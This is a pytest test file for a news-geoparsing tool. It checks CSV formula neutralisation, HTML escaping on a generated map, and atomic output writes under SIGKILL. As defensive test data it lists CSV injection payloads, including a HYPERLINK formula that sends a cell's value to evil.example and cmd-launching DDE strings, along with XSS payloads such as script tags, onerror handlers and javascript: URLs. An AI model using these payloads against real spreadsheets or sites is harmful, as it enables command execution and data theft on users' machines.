"""Nothing in an article is ever executed, and no run leaves a broken output.

- CSV: cells a spreadsheet would run as a formula are neutralised through the real
  writers (mentions.csv, events.csv), the files round-trip through pandas, and
  numbers (negative coordinates) stay numbers.
- HTML: hostile titles, URLs and text reach map.html only escaped; every link is
  http(s); no tag or event handler can be injected (checked on the HTML text and on
  every HTML fragment the page's script assembles; a browser test is elsewhere).
- Atomic outputs: a run killed with SIGKILL leaves earlier outputs byte-identical,
  with at most a hidden temporary file beside them; `--resume` (when present)
  completes a killed run without duplicates.
"""
from __future__ import annotations

import csv
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from geo import render
from geo.model import Article
from geo.pipeline import Pipeline
from geo.sources import FORMULA_START, atomic_writer, safe_cell, write_csv

ROOT = Path(__file__).resolve().parent.parent
SEED = (ROOT / "seeds" / "000_7c22ec6678f18bc5.txt").read_text(encoding="utf-8").split("\n", 1)[1]


@pytest.fixture(scope="module")
def pipeline(gazetteer) -> Pipeline:
    return Pipeline.default(gazetteer.path, events=True)


# --- CSV ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_safe_cell_touches_only_strings_that_start_a_formula():
    for value in FORMULAS:
        assert safe_cell(value) == "'" + value
    for value in (-22.9, -43.2, 0, 1.5, None, "", "Paris", "a=b", " =1", "'=1"):
        assert safe_cell(value) == value
    assert safe_cell("-22.9") == "'-22.9"  # a string, so a spreadsheet could still read it as a formula
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


def hostile_articles() -> list[Article]:
    """Each sentence starts with a formula and holds a place; one id is a formula too."""
    return [Article(id=formula, title="@title",
                    text=f"Police clashed with protesters in Rio de Janeiro on Monday.\n\n{formula} in Rio de Janeiro.")
            for formula in FORMULAS] + [Article(id="plain", text="Talks were held in Vientiane on Tuesday.")]


def test_mentions_and_events_csv_are_neutralised_and_round_trip(pipeline, tmp_path):
    parsed = [pipeline.parse(article) for article in hostile_articles()]
    paths = render.write_outputs(parsed, tmp_path)
    mentions = pd.read_csv(paths["mentions"], keep_default_na=False, na_values=[""])
    expected = list(render.mention_rows(parsed))
    assert len(mentions) == len(expected) > len(FORMULAS)
    for row, want in zip(mentions.to_dict("records"), expected):
        for column in ("article_id", "text", "name", "sentence", "source"):
            got, value = row[column], want[column]
            if isinstance(value, str) and value.startswith(FORMULA_START):
                assert got == "'" + value  # neutralised: the leading quote, then the value as written
            else:
                assert got == value or (value == "" and pd.isna(got))
    assert set(mentions["article_id"]) == {"'" + f for f in FORMULAS} | {"plain"}
    assert any(s.startswith("'=HYPERLINK(") for s in mentions["sentence"])
    assert not any(isinstance(s, str) and s.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for column in mentions.columns if mentions[column].dtype == object
                   for s in mentions[column])
    assert mentions["lat"].dtype == float and mentions["lon"].dtype == float
    rio = mentions[mentions["text"] == "Rio de Janeiro"]
    assert len(rio) == 2 * len(FORMULAS) and (rio["lat"] < -22).all() and (rio["lon"] < -43).all()
    assert mentions["start"].dtype.kind == "i" and mentions["confidence"].dtype == float

    events = pd.read_csv(paths["events"], keep_default_na=False, na_values=[""])
    assert len(events) >= len(FORMULAS)
    for column in events.columns:
        if events[column].dtype == object:
            assert not any(isinstance(v, str) and v.startswith(FORMULA_START) for v in events[column])
    assert events["lat"].dtype == float and (events["lat"] < 0).any() and (events["lon"] < 0).any()
    assert set(events["article_id"]) <= {"'" + f for f in FORMULAS} | {"plain"}


def test_raw_csv_text_never_starts_a_cell_with_a_formula(tmp_path):
    path = tmp_path / "x.csv"
    write_csv(path, ["a", "b"], [{"a": f, "b": -1.5} for f in FORMULAS])
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["a", "b"]
    assert all(row[0].startswith("'") and row[1] == "-1.5" for row in rows[1:])


# --- HTML ---------------------------------------------------------------------------------

PAYLOADS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</script><script>alert(2)</script>",
            "javascript:alert(3)", "'><svg onload=alert(4)>", "${alert(5)}`\\", "<!--", "\u2028</SCRIPT >"]
BAD_URLS = ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)", 'https://example.org/"onmouseover="alert(1)', "https://ex.org/ x onclick=alert(1)",
            "//evil.example/x.js", "java\nscript:alert(1)"]


def hostile_map_articles() -> list[Article]:
    articles = []
    for index, payload in enumerate(PAYLOADS):
        text = (f"Protesters marched in Paris on Monday {payload}. Troops moved near Rio de Janeiro {payload} "
                f"on Tuesday. Talks were held in Vientiane {payload}. Floods hit Dhaka.")
        articles.append(Article(id=f"{payload}{index}", text=text, title=payload,
                                url=BAD_URLS[index % len(BAD_URLS)]))
    articles.append(Article(id="good", text="Talks were held in Hanoi on Monday.", title="Good",
                            url="https://example.org/good?a=1&b=<2>"))
    return articles


class Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags(html: str) -> list[tuple[str, dict]]:
    parser = Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


def check_links(found: list[tuple[str, dict]]) -> None:
    for tag, attrs in found:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            if name in attrs:
                assert re.match(r"https?://", attrs[name]), (tag, name, attrs[name])


@pytest.mark.parametrize("offline", [False, True])
def test_map_html_contains_hostile_text_only_escaped(pipeline, tmp_path, offline):
    parsed = [pipeline.parse(article) for article in hostile_map_articles()]
    assert sum(len(p.events) for p in parsed) >= len(PAYLOADS)
    paths = render.write_outputs(parsed, tmp_path, offline=offline)
    html = paths["map"].read_text(encoding="utf-8")
    # offline maps inline the vendored Leaflet code (geo/assets), which is not ours to search
    html = re.sub(r"<(script|style)>/\* [\w.-]+@[\d.]+/.*?</\1>", "", html, flags=re.S)
    for raw in ("<script>alert", "<img", "<svg", "onerror=alert(1)>", "</script><script>alert",
                '"onmouseover="', "javascript:alert(1)", "JavaScript:", "vbscript:", "data:text/html",
                "${alert", "\u2028"):
        assert raw not in html, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the text is there, escaped
    found = tags(html)
    names = [tag for tag, _ in found]
    assert "img" not in names and "svg" not in names
    assert len(re.findall(r"<script\b", html, re.I)) == len(re.findall(r"</script\s*>", html, re.I)) \
        == names.count("script")
    check_links(found)
    # the only links to articles are http(s): the good one, escaped
    assert "https://example.org/good?a=1&amp;b=&lt;2&gt;" in html.replace("\\u003c", "<")


def test_every_popup_fragment_is_inert(pipeline):
    """The strings the page's script turns into HTML (titles, popups, sentences) hold no live markup."""
    parsed = [pipeline.parse(article) for article in hostile_map_articles()]
    data = render.MapData(parsed)
    allowed = {"div", "span", "b", "mark", "blockquote", "a"}
    fragments = []

    def walk(value):
        if isinstance(value, str):
            fragments.append(value)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    for rows in (data.articles, data.events, data.points, data.places):
        walk(rows)
    assert fragments
    for fragment in fragments:
        found = tags(fragment)
        assert {tag for tag, _ in found} <= allowed, fragment
        check_links(found)
        # "javascript:alert(3)" may stay as words of a sentence; it is never a link (check_links)
        assert "`" not in fragment and "${" not in fragment
    assert all(url == "" or url.startswith(("http://", "https://")) for _, url in data.articles)
    assert [url for _, url in data.articles if url] == [  # http(s) only, escaped for an attribute
        "https://example.org/&quot;onmouseover=&quot;alert(1)", "https://example.org/good?a=1&amp;b=&lt;2&gt;"]


def test_map_command_with_hostile_jsonl(tmp_path):
    source = tmp_path / "hostile.jsonl"
    with open(source, "w", encoding="utf-8") as handle:
        for article in hostile_map_articles():
            handle.write(json.dumps({"id": article.id, "text": article.text, "title": article.title,
                                     "url": article.url}) + "\n")
    out = tmp_path / "maps"
    result = subprocess.run([sys.executable, "-m", "geo", "map", str(source), "-o", str(out), "--no-geocoder",
                             "--workers", "1"], capture_output=True, text=True, cwd=ROOT, timeout=300)
    assert result.returncode == 0, result.stderr
    html = (out / "map.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img" not in html and "javascript:alert(1)" not in html
    check_links(tags(html))


# --- atomic outputs ------------------------------------------------------------------------


def visible(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if not p.name.startswith(".")}


def test_atomic_writer_keeps_the_old_file_on_error(tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_writer(target) as handle:
            handle.write("half")
            raise RuntimeError("interrupted")
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_atomic_writer_file_modes(tmp_path):
    umask = os.umask(0o022)
    try:
        with atomic_writer(tmp_path / "new.txt") as handle:
            handle.write("x")
        assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o644  # not the temp file's 0600
        kept = tmp_path / "kept.txt"
        kept.write_text("old")
        kept.chmod(0o640)
        with atomic_writer(kept) as handle:
            handle.write("new")
        assert stat.S_IMODE(kept.stat().st_mode) == 0o640 and kept.read_text() == "new"
    finally:
        os.umask(umask)


def test_sigkill_during_a_write_leaves_the_old_file(tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("earlier output\n")
    script = ("import sys, time\nfrom geo.sources import atomic_writer\n"
              "with atomic_writer(sys.argv[1]) as handle:\n"
              "    handle.write('half of a new output'); handle.flush()\n"
              "    print('writing', flush=True); time.sleep(120)\n")
    child = subprocess.Popen([sys.executable, "-c", script, str(target)], stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        assert child.stdout.readline().strip() == "writing"
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
    assert target.read_text() == "earlier output\n"
    leftovers = [p.name for p in tmp_path.iterdir() if p.name != "out.txt"]
    assert all(name.startswith(".out.txt.") and name.endswith(".tmp") for name in leftovers)


def big_jsonl(path: Path, count: int) -> Path:
    with open(path, "w", encoding="utf-8") as handle:
        for index in range(count):
            handle.write(json.dumps({"id": f"a{index:05d}", "text": SEED, "date": "2024-11-20"}) + "\n")
    return path


def run_and_kill(args: list[str], ready, timeout: float = 120) -> None:
    """Start `python -m geo ARGS` in its own process group; SIGKILL the group once `ready()`."""
    child = subprocess.Popen([sys.executable, "-m", "geo", *args, "--no-geocoder"], cwd=ROOT,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + timeout
        while not ready():
            assert child.poll() is None, "the run ended before it could be killed; make the input bigger"
            assert time.monotonic() < deadline, "the run never got going"
            time.sleep(0.05)
    finally:
        os.killpg(child.pid, signal.SIGKILL)  # the child and any workers it started
        child.wait(timeout=30)


def temp_files(folder: Path, name: str) -> list[Path]:
    return [p for p in folder.iterdir() if p.name.startswith(f".{name}.")]


def test_sigkilled_parse_leaves_earlier_output_intact(tmp_path):
    source = big_jsonl(tmp_path / "big.jsonl", 3000)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / "OUT.jsonl"
    out.write_text('{"id": "earlier", "mentions": []}\n')
    before = visible(out_dir)

    def writing() -> bool:
        return any(p.stat().st_size > 0 for p in temp_files(out_dir, "OUT.jsonl"))

    run_and_kill(["parse", str(source), "-o", str(out), "--workers", "1"], writing)
    assert visible(out_dir) == before  # byte-identical, and no new visible file
    assert all(p.name.endswith(".tmp") for p in temp_files(out_dir, "OUT.jsonl"))


def test_sigkilled_map_leaves_earlier_outputs_intact(tmp_path):
    small = big_jsonl(tmp_path / "small.jsonl", 2)
    out = tmp_path / "maps"
    first = subprocess.run([sys.executable, "-m", "geo", "map", str(small), "-o", str(out), "--no-geocoder",
                            "--workers", "1"], capture_output=True, text=True, cwd=ROOT, timeout=300)
    assert first.returncode == 0, first.stderr
    before = visible(out)
    assert set(before) >= {"map.html", "mentions.csv", "events.csv", "places.geojson", "events.geojson"}
    source = big_jsonl(tmp_path / "big.jsonl", 3000)
    started = time.monotonic()
    run_and_kill(["map", str(source), "-o", str(out), "--quiet"], lambda: time.monotonic() - started > 4)
    assert visible(out) == before


def has_resume() -> bool:
    result = subprocess.run([sys.executable, "-m", "geo", "parse", "--help"], capture_output=True, text=True,
                            cwd=ROOT, timeout=120)
    return "--resume" in result.stdout


def test_resume_after_sigkill_completes_without_duplicates(tmp_path):
    if not has_resume():
        pytest.skip("`geo parse --resume` is not there yet")
    count = 400
    source = big_jsonl(tmp_path / "big.jsonl", count)
    out = tmp_path / "OUT.jsonl"

    def some_written() -> bool:
        return out.exists() and out.stat().st_size > 20_000

    run_and_kill(["parse", str(source), "-o", str(out), "--resume", "--workers", "1"], some_written)
    partial = out.read_bytes()
    assert 0 < partial.count(b"\n") < count
    result = subprocess.run([sys.executable, "-m", "geo", "parse", str(source), "-o", str(out), "--resume",
                             "--workers", "1", "--no-geocoder"], capture_output=True, text=True, cwd=ROOT,
                            timeout=600)
    assert result.returncode == 0, result.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    ids = [json.loads(line)["id"] for line in lines]
    assert sorted(ids) == [f"a{index:05d}" for index in range(count)]  # each once, none lost
    records = {json.loads(line)["id"]: json.loads(line) for line in lines}
    assert len({json.dumps(r["mentions"], sort_keys=True) for r in records.values()}) == 1  # same text, same result
